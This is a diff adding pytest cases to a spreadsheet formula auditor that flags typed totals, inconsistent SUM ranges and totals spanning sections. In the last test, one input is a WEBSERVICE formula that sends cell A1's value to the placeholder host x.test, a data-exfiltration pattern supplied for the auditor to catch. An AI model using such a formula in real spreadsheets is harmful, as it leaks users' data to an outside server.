@@ -155,6 +155,73 @@ def test_given_totals_row_with_mixed_spans_when_audited_then_whole_row_flagged()
     assert not {c for c, r in _rules_at(_sheet(formulas, values)) if r in ("FX30", "FX33")}
 
 
+def _totals_row(typed_total: int) -> Sheet:
+    # Given four columns of figures and a totals row where one total was typed in
+    formulas: list[list[str | None]] = [[None] * 4 for _ in range(4)]
+    values: list[list[object]] = [[1, 2, 3, 4], [10, 20, 30, 40], [100, 200, 300, 400], [None, None, None, None]]
+    formulas[3] = ["=SUM(A1:A3)", "=SUM(B1:B3)", None, "=SUM(D1:D3)"]
+    values[3] = [111, 222, typed_total, 444]
+    return _sheet(formulas, values)
+
+
+def _fx31_severity(sheet: Sheet, cell: str) -> set[str]:
+    return {f.severity for f in audit_sheet(sheet) if f.rule == "FX31" and f.cell == cell}
+
+
+def test_given_typed_total_that_differs_from_its_formula_when_audited_then_high() -> None:
+    assert _fx31_severity(_totals_row(300), "Q3!C4") == {"high"}
+
+
+def test_given_typed_total_equal_to_its_formula_when_audited_then_only_advice() -> None:
+    # A pasted value that equals the sum (up to the digits typed) is right today: medium, not an error.
+    assert _fx31_severity(_totals_row(333), "Q3!C4") == {"medium"}
+    assert {f.severity for f in audit_sheet(_totals_row(333)) if f.cell == "Q3!A4"} <= {"medium", "low", "info"}
+
+
+def test_given_rate_rows_between_identical_totals_when_audited_then_no_inconsistent_region() -> None:
+    # Given a total column whose rows alternate between copies of one SUM and a rate: layout, not an error
+    formulas: list[list[str | None]] = [[None, None, None, f"=SUM(A{r}:C{r})"] for r in range(1, 7)]
+    values: list[list[object]] = [[1, 2, 3, 6] for _ in range(6)]
+    formulas[2][3] = "=D2/D1*100"
+    formulas[4][3] = "=AVERAGE(A5:C5)"
+    assert not {c for c, r in _rules_at(_sheet(formulas, values)) if r in ("FX30", "FX33")}
+    # When one copy's range differs, it alone is reported as an error
+    formulas[5][3] = "=SUM(B6:C6)"
+    errors = {f.cell for f in audit_sheet(_sheet(formulas, values)) if f.severity == "high"}
+    assert errors == {"Q3!D6"}
+
+
+def test_given_relative_reference_pinned_to_one_cell_when_audited_then_copies_agree() -> None:
+    # Given shares of a total written without $ (=A1/A5, =A2/A5, ...): every copy reads A5
+    formulas: list[list[str | None]] = [[None, f"=SUM(A{r}/A5)"] for r in range(1, 5)] + [[None, None]]
+    values: list[list[object]] = [[r, None] for r in range(1, 5)] + [[10, None]]
+    assert not {c for c, r in _rules_at(_sheet(formulas, values)) if r in ("FX30", "FX33")}
+
+
+def _sectioned_table(total: str, gap_value: object = None) -> Sheet:
+    # Given a table in two sections, each under a heading line, and a total under it
+    labels: list[object] = ["Current", "Staff", "Other", "Capital", "Assets", "Total"]
+    values: list[list[object]] = [[label, None, None] for label in labels]
+    for row, (b, c) in {1: (5, 6), 2: (7, 8), 4: (9, 1)}.items():
+        values[row][1:] = [b, c]
+    values[3][2] = gap_value
+    formulas: list[list[str | None]] = [[None, None, None] for _ in labels]
+    formulas[5][1:] = [total, total.replace("B", "C")]
+    return _sheet(formulas, values)
+
+
+def test_given_total_from_heading_across_sections_when_audited_then_flagged() -> None:
+    found = _rules_at(_sectioned_table("=SUM(B1:B5)"))
+    assert ("Q3!B6", "FX35") in found and ("Q3!C6", "FX35") in found
+
+
+def test_given_total_of_one_block_or_sparse_ledger_when_audited_then_not_sections() -> None:
+    # A range that starts on its first figure, or whose gaps hold figures elsewhere in the table
+    # (a sparse ledger, not heading lines), is not a sweep across sections.
+    assert not {c for c, r in _rules_at(_sectioned_table("=SUM(B2:B5)")) if r == "FX35"}
+    assert not {c for c, r in _rules_at(_sectioned_table("=SUM(B1:B5)", gap_value=4)) if r == "FX35"}
+
+
 def test_given_repeated_absolute_formula_when_audited_then_duplicates_flagged() -> None:
     formulas: list[list[str | None]] = [
         ["=SUM($B$1:$B$3)"],
@@ -179,3 +246,19 @@ def test_catalogue_has_at_least_25_checks_with_valid_metadata() -> None:
     for rule, spec in CHECKS.items():
         assert rule == spec.id and spec.severity in ("critical", "high", "medium", "low", "info")
         assert spec.tags and spec.title and spec.description
+
+
+def test_given_findings_of_any_case_when_audited_then_severity_is_one_the_catalogue_states() -> None:
+    # The catalogue is truthful: a finding's severity is the default or one of the stated cases.
+    sheets = [
+        _totals_row(300),
+        _totals_row(333),
+        _column_of_copies("=A5*2"),
+        _column_of_copies(None, 8),
+        _sectioned_table("=SUM(B1:B5)"),
+    ]
+    findings = [f for sheet in sheets for f in audit_sheet(sheet)]
+    findings += audit_formulas(['=A1+"5"', '=A1+"x"', '=WEBSERVICE("https://x.test/?q="&A1)', "=SUM(A1+B1)"])
+    for f in findings:
+        spec = CHECKS[f.rule]
+        assert f.severity in {spec.severity, *(case for case, _ in spec.severity_cases)}, f
